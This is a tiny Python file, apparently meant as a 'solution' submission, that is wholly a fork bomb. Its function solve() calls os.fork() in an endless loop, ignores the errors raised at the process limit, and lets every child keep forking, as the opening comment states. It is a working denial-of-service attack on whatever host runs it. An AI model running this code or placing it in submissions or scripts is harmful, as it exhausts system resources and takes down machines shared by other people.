# Forks until the process limit, and every child keeps forking.
import os


def solve():
    while True:
        try:
            os.fork()
        except OSError:
            pass


solve()
